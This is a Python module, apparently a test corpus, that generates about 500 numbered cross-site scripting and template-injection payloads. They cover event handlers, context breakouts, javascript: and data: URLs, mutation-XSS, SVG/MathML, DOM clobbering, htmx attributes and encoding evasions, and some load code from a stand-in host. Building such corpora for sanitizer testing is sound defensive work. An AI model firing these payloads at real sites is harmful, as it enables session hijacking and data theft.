"""Five hundred ways to make a text act in a browser, each with a number: `shoot(17)` is what number 17 would call.

They are products, written down below (tags by events, separators, what breaks out of a context, addresses), and by hand
what mutates, what styles, what draws, and what speaks to the libraries at work.
"""

from itertools import product
from typing import Final

_TAGS: Final = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe src=/x",
    "object data=x",
    "embed src=x",
    "link rel=stylesheet href=x",
    "div tabindex=0 autofocus",
    "marquee",
)
_EVENTS: Final = (
    "onload",
    "onerror",
    "onfocus",
    "ontoggle",
    "onpointerover",
    "onanimationend",
    "onloadstart",
    "onstart",
    "onbegin",
    "onclick",
    "onmouseenter",
    "onbeforetoggle",
    "onanimationstart",
)
_SURE: Final = tuple((tag, event) for tag in ("img src=x", "svg", "video src=x") for event in ("onload", "onerror"))
_CRAMPED: Final = ("/", "\t", "\n", "\f", "/x/")
_QUOTED: Final = ('"shoot(0)"', "'shoot(0)'", "shoot(0);", "&#115;hoot(0)", "&#x73;hoot&lpar;0&rpar;", "\\u0073hoot(0)")
_BREAKS: Final = (
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</select>",
    "</pre>",
    "</svg>",
    "</noscript>",
    "</a>",
    "-->",
    "]]>",
    "\\",
)
_AFTER: Final = (
    "<script>shoot(0)</script>",
    "<img src=x onerror=shoot(0)>",
    "<svg onload=shoot(0)>",
    " onfocus=shoot(0) autofocus tabindex=0 x=",
)
_ADDRESSES: Final = (
    "javascript:shoot(0)",
    "JaVaScRiPt:shoot(0)",
    "java\tscript:shoot(0)",
    "java&#10;script:shoot(0)",
    "&#106;avascript&colon;shoot(0)",
    "\x01javascript:shoot(0)",
    "data:text/html,<script>parent.shoot(0)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuc2hvb3QoMCk8L3NjcmlwdD4=#0",
    "vbscript:shoot(0)",
)
_LED: Final = (
    "{}",
    "<a href='{}'>x</a>",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    "<button formaction='{}' form=x>x</button>",
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<math href="{}">x</math>',
)
_BY_HAND: Final = (
    # scripts
    "<script>shoot(0)</script>",
    "<ScRiPt>shoot(0)</sCrIpT>",
    "<script/x>shoot(0)</script>",
    "<script\n>shoot(0)</script\n>",
    "<<script>shoot(0)//<</script>",
    "<scr<script>ipt>shoot(0)</scr</script>ipt>",
    "<script src=//evil0.invalid/x.js></script>",
    "<script src=data:text/javascript,shoot(0)></script>",
    "<script type=module>shoot(0)</script>",
    "<script>/*<!--*/shoot(0)</script>",
    # mutation
    "<noscript><p title='</noscript><img src=x onerror=shoot(0)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=shoot(0)&gt;'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=shoot(0)>",
    "<svg></p><style><a id='</style><img src=1 onerror=shoot(0)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=shoot(0) src>'>",
    "<template><img src=x onerror=shoot(0)></template>",
    "<template shadowrootmode=open><img src=x onerror=shoot(0)></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=shoot(0)>'>",
    "<textarea><img title='</textarea><img src=x onerror=shoot(0)>'>",
    "<xmp><p title='</xmp><img src=x onerror=shoot(0)>'>",
    "<listing>&lt;img src=1 onerror=shoot(0)&gt;</listing>",
    "<plaintext><img src=x onerror=shoot(0)>",
    "<!--><img src=x onerror=shoot(0)>-->",
    "<!--!><img src=x onerror=shoot(0)>--!>",
    "<![CDATA[<img src=x onerror=shoot(0)>]]>",
    "<?xml version=1?><img src=x onerror=shoot(0)>",
    # styles
    "<style>@import '//evil0.invalid/x.css';</style>",
    "<style>body{background:url(javascript:shoot(0))}</style>",
    "<style>*{x:expression(shoot(0))}</style>",
    '<div style="background:url(javascript:shoot(0))">x</div>',
    '<div style="animation:x 1s" onanimationstart=shoot(0)>x</div>',
    "<link rel=stylesheet href='data:text/css,*{color:red}' onload=shoot(0)>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=shoot(0)>x</b>",
    # drawings and formulas
    "<svg><script>shoot(0)</script></svg>",
    "<svg><script href=data:,shoot(0) /></svg>",
    "<svg><animate onbegin=shoot(0) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=shoot(0)>",
    "<svg><a><animate attributeName=href values=javascript:shoot(0) /><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='shoot(0)'/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.shoot(0)</script>'></iframe></foreignObject></svg>",
    "<svg><image href=x onerror=shoot(0)></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:shoot(0)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=shoot(0)></annotation-xml></math>",
    # frames, bases, clobbering
    "<iframe srcdoc='<script>parent.shoot(0)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.shoot(0)&gt;'></iframe>",
    "<base href=//evil0.invalid/>",
    "<base target=x><a href=x>x</a>",
    "<form id=contenu><input name=attributes></form>",
    "<img name=querySelector><img id=contenu name=body>",
    "<a id=htmx href=x><a id=htmx name=config href=javascript:shoot(0)>",
    "<input form=x name=jetonCsrf value=0>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' 0\">",
    '<meta name=htmx-config content=\'{"allowEval":true,"x":0}\'>',
    # the libraries at work
    "<b hx-on:click=shoot(0)>x</b>",
    "<b hx-on::load=shoot(0)>x</b>",
    "<b data-hx-on-load=shoot(0)>x</b>",
    "<div hx-get=//evil0.invalid hx-trigger=load>x</div>",
    "<div hx-post=/espace/donnees/effacer hx-trigger=load hx-vals='{\"x\":0}'>x</div>",
    "<div hx-get=/espace hx-trigger='load[shoot(0)]'>x</div>",
    "<div hx-get=/espace hx-vals='js:{x:shoot(0)}' hx-trigger=load>x</div>",
    "<div hx-ext=x0 hx-swap-oob=true id=contenu>x</div>",
    "{{ shoot(0) }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__bases__ %}shoot(0){% endfor %}",
    "{# shoot(0) #}",
    "${shoot(0)}",
    "#{shoot(0)}",
    "<%= shoot(0) %>",
    # encodings
    "&lt;script&gt;shoot(0)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=shoot(0)&amp;gt;",
    "&#60;img src=x onerror=shoot(0)&#62;",
    "&#x3c;img src=x onerror=shoot(0)&#x3e;",
    "%3Cimg src=x onerror=shoot(0)%3E",
    "%253Cimg src=x onerror=shoot(0)%253E",
    "\\x3cimg src=x onerror=shoot(0)\\x3e",
    "\\u003cimg src=x onerror=shoot(0)\\u003e",
    "+ADw-script+AD4-shoot(0)+ADw-/script+AD4-",
    "＜img src=x onerror=shoot(0)＞",
    "‹img src=x onerror=shoot(0)›",
    "\u202e<img src=x onerror=shoot(0)>",
    "\u2028<img src=x onerror=shoot(0)>\u2029",
    "<\u0130mg src=x onerror=shoot(0)>",
    "<img src=x onerror\u00a0=shoot(0)>",
    "<img\u3000src=x onerror=shoot(0)>",
)


def _made() -> list[str]:
    found = [f"<{tag} {event}=shoot(0)>" for tag, event in product(_TAGS, _EVENTS)]
    found += [f"<{tag.replace(' ', space)}{space}{event}=shoot(0)>" for space in _CRAMPED for tag, event in _SURE]
    found += [f"<img src=x onerror={call}>" for call in _QUOTED]
    found += [f"<a href=# id=x{n} {event}={call}>x" for n, (event, call) in enumerate(product(_EVENTS[:3], _QUOTED))]
    found += [f"{out}{after}" for out, after in product(_BREAKS, _AFTER)]
    found += [led.format(address) for led, address in product(_LED, _ADDRESSES)]
    return [*found, *_BY_HAND]


PAYLOADS: Final = tuple(each.replace("shoot(0)", f"shoot({n})") for n, each in enumerate(_made()))
